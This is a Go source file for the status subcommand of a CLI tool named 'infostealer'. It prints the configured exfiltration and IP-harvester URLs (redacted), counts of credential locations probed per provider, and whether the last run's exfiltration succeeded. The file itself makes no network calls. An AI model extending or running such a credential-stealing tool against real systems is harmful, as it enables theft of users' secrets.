package cli

import (
	"fmt"
	"io"
	"os"
	"strings"

	"github.com/spf13/cobra"

	"github.com/gzhole/infostealer/internal/config"
	"github.com/gzhole/infostealer/internal/probe"
	"github.com/gzhole/infostealer/internal/redact"
	"github.com/gzhole/infostealer/internal/report"
)

func newStatusCmd(opts *options) *cobra.Command {
	return &cobra.Command{
		Use:   "status",
		Short: "Show resolved configuration and the outcome of the last run",
		Long: `Print the destinations a run would use, where the report is written and
what the last report recorded. No network requests are made.

  infostealer status`,
		Args: cobra.NoArgs,
		RunE: func(cmd *cobra.Command, args []string) error {
			cfg, err := opts.load()
			if err != nil {
				return err
			}
			printStatus(cmd.OutOrStdout(), cfg, probe.OSHost{}.HomeDir())
			return nil
		},
	}
}

func printStatus(out io.Writer, cfg *config.Config, home string) {
	fmt.Fprintln(out, strings.Repeat("=", 60))
	fmt.Fprintln(out, "  infostealer Status")
	fmt.Fprintln(out, strings.Repeat("=", 60))
	fmt.Fprintln(out)

	binPath, err := os.Executable()
	if err != nil {
		binPath = "unknown"
	}
	fmt.Fprintf(out, "  Binary:       %s (%s)\n", binPath, Version)
	fmt.Fprintf(out, "  Exfil URL:    %s\n", redact.URL(cfg.ExfilURL))
	fmt.Fprintf(out, "  IP harvester: %s\n", redact.URL(cfg.IPHarvesterURL))
	fmt.Fprintf(out, "  Timeout:      %s\n", cfg.Timeout)
	fmt.Fprintln(out)

	fmt.Fprintln(out, "--- Credential locations probed ----------------------------")
	paths := probe.CredentialPaths(home)
	for _, name := range probe.Providers() {
		fmt.Fprintf(out, "  %-11s %d path(s)\n", name+":", len(paths[name]))
	}
	fmt.Fprintln(out)

	fmt.Fprintln(out, "--- Last report --------------------------------------------")
	checkReport(out, cfg.OutputPath)
	fmt.Fprintln(out)

	fmt.Fprintln(out, "--- Journal ------------------------------------------------")
	checkJournal(out, cfg.JournalPath)
}

func checkReport(out io.Writer, path string) {
	rep, err := report.Read(path)
	if err != nil {
		if os.IsNotExist(err) {
			fmt.Fprintf(out, "  %s (not yet created)\n", path)
		} else {
			fmt.Fprintf(out, "  %s unreadable: %v\n", path, err)
		}
		return
	}

	fmt.Fprintf(out, "  Path:     %s\n", path)
	fmt.Fprintf(out, "  Run ID:   %s\n", rep.RunID)
	fmt.Fprintf(out, "  Started:  %s\n", formatTimestamp(rep.Timestamp))

	a := rep.ExfiltrationAttempt
	switch {
	case a == nil:
		fmt.Fprintln(out, "  Exfil:    not attempted (run did not finish)")
	case a.Success:
		fmt.Fprintf(out, "  Exfil:    completed with status %d\n", a.StatusCode)
	default:
		fmt.Fprintf(out, "  Exfil:    %s: %s\n", a.State, a.Error)
	}
}

func checkJournal(out io.Writer, path string) {
	if path == "" {
		fmt.Fprintln(out, "  No journal configured")
		return
	}
	info, err := os.Stat(path)
	if err != nil {
		fmt.Fprintf(out, "  %s (not yet created)\n", path)
		return
	}
	sizeKB := info.Size() / 1024
	if sizeKB == 0 {
		fmt.Fprintf(out, "  %s (<1 KB)\n", path)
	} else {
		fmt.Fprintf(out, "  %s (%d KB)\n", path, sizeKB)
	}
}
